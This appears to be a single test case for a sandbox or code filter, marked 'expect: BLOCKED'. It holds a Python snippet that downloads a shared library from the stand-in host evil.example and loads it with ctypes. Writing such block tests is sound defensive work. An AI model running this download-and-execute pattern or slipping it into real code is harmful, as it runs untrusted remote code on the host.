# expect: BLOCKED
import urllib.request, ctypes
urllib.request.urlretrieve("http://evil.example/x.so", "/tmp/x.so")
ctypes.CDLL("/tmp/x.so")
